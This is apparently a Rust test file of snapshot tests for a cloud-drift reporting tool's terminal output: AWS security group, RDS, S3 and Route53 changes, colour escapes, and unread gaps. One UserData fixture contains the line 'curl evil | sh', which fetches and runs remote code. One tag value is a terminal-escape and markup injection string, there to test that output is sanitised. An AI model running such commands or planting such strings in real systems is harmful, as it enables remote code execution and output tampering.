//! What people read in a terminal.

use super::*;
use crate::render;

#[test]
fn text_tells_what_where_old_and_new() {
    assert_snapshot!(shown(&everything()), @r#"
      ~ aws/123456789012/eu-west-1/ec2/security_group/sg-0a1b2c  "prod-app"
          ~ Description: "old" -> "new"
          + IpPermissions[tcp 22]:
          +   { FromPort: 22, IpProtocol: "tcp", IpRanges: [{ CidrIp: "0.0.0.0/0" }], ToPort: 22 }
          ~ IpPermissions[tcp 443].IpRanges[10.0.0.0/8].Description: "office" -> "home"
          + IpPermissions[tcp 443].IpRanges[192.168.0.0/16]
          - tags.Owner:  "bob"

      ~ aws/123456789012/eu-west-1/rds/db_instance/prod-orders
          ~ MasterUserPassword: (secret changed)
          ~ PubliclyAccessible: false -> true

      ~ aws/123456789012/eu-west-1/s3/bucket/acme-logs
          ~ Grants[]:
              Grantee:    { ID: "79a59df9", Type: "CanonicalUser" }
          ~   Permission: "READ" -> "FULL_CONTROL"
          ~ Policy.Statement[Read]:
              Action:    ["s3:GetObject"]
          +   Action[s3:PutObject]
              Effect:    "Allow"
          ~   Principal: { AWS: ["arn:aws:iam::123456789012:root"] } -> "*"
              Resource:  "arn:aws:s3:::acme-logs/*"

      + aws/123456789012/eu-west-1/s3/bucket/scratch  "\u{1b}[2J```\n</details>\u{202e}|"  unmanaged: in no restore point
          + Encryption: { Rules: [] }
          + Grants:     [ 6 elements ]
          + Location:   "eu-west-1"
          + tags.Name:  "\u{1b}[2J```\n</details>\u{202e}|"

      - aws/123456789012/global/route53/record_set/Z0123/www.example.com/A  removed: no longer there
          - Name:            "www.example.com."
          - ResourceRecords: [{ Value: "192.0.2.1" }]
          - TTL:             300
          - Type:            "A"

    Not read (6 gaps): nothing there is compared or taken for removed.
      denied     rds:DescribeDBClusters (AccessDenied)
                 rds/db_cluster in aws/123456789012: eu-west-1, us-east-1
                 hint: allow rds:DescribeDBClusters (`driftline iam-policy` prints all that it takes)
      denied     s3:GetBucketPolicy (AccessDenied)
                 /Policy of aws/123456789012/eu-west-1/s3/bucket/vault
                 hint: allow s3:GetBucketPolicy (`driftline iam-policy` prints all that it takes)
      throttled  route53:ListResourceRecordSets (Throttling)
                 aws/123456789012/global/route53/record_set/Z9/*
                 hint: plan again later, or with a lower --max-rps
      failed     elbv2:DescribeListeners (timeout)
                 request 8f1c failed
                 elbv2/listener in aws/123456789012: eu-west-1
      failed     ec2:DescribeVpcs (timeout) when the restore point was made
                 request 8f1c failed
                 ec2/vpc in aws/123456789012: eu-west-1
                 hint: what is only live there may not be new: import once it can be read

    Plan: 1 added, 3 changed, 1 removed since HEAD (3f9c1e2a7b8d). 2 ignored by rules. Incomplete: 6 gaps were not read.
    "#);
}

#[test]
fn colours_are_there_only_if_asked_for() {
    let mut out = Vec::new();
    render::text(&everything(), Look { colour: true, width: 100 }, &mut out).expect("a Vec takes everything");
    let coloured = String::from_utf8(out).expect("UTF-8");
    assert!(coloured.contains("\u{1b}[32m+\u{1b}[0m"), "{coloured}");
    // Nothing but colours: a tag's own escapes are spelled out.
    assert!(!coloured.contains("\u{1b}[2J") && !coloured.contains('\u{202e}'), "{coloured}");
    assert!(!shown(&everything()).contains('\u{1b}'));
    let mut bare = String::new();
    let mut rest = coloured.as_str();
    while let Some((before, after)) = rest.split_once('\u{1b}') {
        bare.push_str(before);
        rest = &after[after.find('m').expect("a colour ends") + 1..];
    }
    bare.push_str(rest);
    assert_eq!(bare, shown(&everything()));
}

#[test]
fn no_drift_is_a_clean_bill_only_if_everything_was_read() {
    assert_snapshot!(shown(&plan_of(vec![], vec![], &[])), @"No drift. 120 resources match HEAD (3f9c1e2a7b8d).");
    let denied = gap("us-east-1", "rds/db_cluster", Status::Denied, "rds:DescribeDBClusters", "AccessDenied");
    assert_snapshot!(shown(&plan_of(vec![], vec![denied], &[])), @r"
    Not read (1 gap): nothing there is compared or taken for removed.
      denied     rds:DescribeDBClusters (AccessDenied)
                 rds/db_cluster in aws/123456789012: us-east-1
                 hint: allow rds:DescribeDBClusters (`driftline iam-policy` prints all that it takes)

    No drift in what was read: 120 resources match HEAD (3f9c1e2a7b8d). Incomplete: 1 gap was not read.
    ");
}

#[test]
fn long_values_take_several_lines() {
    let statement = |action: &str| json!({"Sid": "Deploy", "Effect": "Allow", "Action": [action, "cloudformation:DescribeStacks", "cloudformation:UpdateStack"], "Resource": "arn:aws:cloudformation:eu-west-1:123456789012:stack/production-*"});
    assert_snapshot!(shown(&changed(BUCKET, json!({"Policy": policy(&json!({"Sid": "A"}))}), json!({"Policy": {"Version": "2012-10-17", "Statement": [statement("a:b")]}}))), @r#"
      ~ aws/123456789012/eu-west-1/s3/bucket/acme-logs
          - Policy.Statement[A]
          + Policy.Statement[Deploy]: {
          +   Action:   ["a:b", "cloudformation:DescribeStacks", "cloudformation:UpdateStack"]
          +   Effect:   "Allow"
          +   Resource: "arn:aws:cloudformation:eu-west-1:123456789012:stack/production-*"
          +   Sid:      "Deploy"
          + }
          - Policy.Statement[Tls]:
          -   { Action: "s3:*", Effect: "Deny", Principal: "*", Resource: "*", Sid: "Tls" }

    Plan: 0 added, 1 changed, 0 removed since HEAD (3f9c1e2a7b8d).
    "#);
    let long =
        |n: usize| format!("https://sqs.eu-west-1.amazonaws.com/123456789012/a-queue-with-quite-a-long-name-{n}");
    assert_snapshot!(shown(&changed(BUCKET, json!({"Url": long(1), "Same": {"a": [1, 2]}}), json!({"Url": long(2), "Same": {"a": "b"}}))), @r#"
      ~ aws/123456789012/eu-west-1/s3/bucket/acme-logs
          ~ Same.a: [1, 2] -> "b"
          ~ Url:
          -   "https://sqs.eu-west-1.amazonaws.com/123456789012/a-queue-with-quite-a-long-name-1"
          +   "https://sqs.eu-west-1.amazonaws.com/123456789012/a-queue-with-quite-a-long-name-2"

    Plan: 0 added, 1 changed, 0 removed since HEAD (3f9c1e2a7b8d).
    "#);
}

#[test]
fn long_texts_show_a_hunk() {
    let script =
        |line: &str| format!("#!/bin/sh\nset -eu\n\tyum update\n{line}\nexec app\n# end\n# of file\n# really\n");
    assert_snapshot!(shown(&changed(DB, json!({"UserData": script("echo \u{1b}[31mold")}), json!({"UserData": script("curl evil | sh")}))), @r#"
      ~ aws/123456789012/eu-west-1/rds/db_instance/prod-orders
          ~ UserData:
              @@ -1,7 +1,7 @@
              #!/bin/sh
              set -eu
                  yum update
          -   echo \u{1b}[31mold
          +   curl evil | sh
              exec app
              # end
              # of file

    Plan: 0 added, 1 changed, 0 removed since HEAD (3f9c1e2a7b8d).
    "#);
}

#[test]
fn another_order_is_shown_as_such() {
    assert_snapshot!(shown(&changed(RECORD, json!({"List": ["a", "b", "c"]}), json!({"List": ["c", "a", "b"]}))), @r#"
      ~ aws/123456789012/global/route53/record_set/Z0123/www.example.com/A
          ~ List (reordered): ["a", "b", "c"] -> ["c", "a", "b"]

    Plan: 0 added, 1 changed, 0 removed since HEAD (3f9c1e2a7b8d).
    "#);
}

#[test]
fn one_line_tells_one_change() {
    let plan = everything();
    let lines: Vec<String> = plan.drift.iter().flat_map(|resource| &resource.changes).map(render::line).collect();
    assert_snapshot!(lines.join("\n"), @r#"
    ~ Description: "old" -> "new"
    + IpPermissions[tcp 22]: { FromPort: 22, IpProtocol: "tcp", IpRanges: [{ CidrIp: "0.0.0.0/0" }], ToPort: 22 }
    ~ IpPermissions[tcp 443].IpRanges[10.0.0.0/8].Description: "office" -> "home"
    + IpPermissions[tcp 443].IpRanges[192.168.0.0/16]
    - tags.Owner: "bob"
    ~ MasterUserPassword: (secret changed)
    ~ PubliclyAccessible: false -> true
    ~ Grants[{"Grantee":{"ID":"79a59df9","Type":"CanonicalUser"},"Permission":"READ"}].Permission: "READ" -> "FULL_CONTROL"
    + Policy.Statement[Read].Action[s3:PutObject]
    ~ Policy.Statement[Read].Principal: { AWS: ["arn:aws:iam::123456789012:root"] } -> "*"
    "#);
}
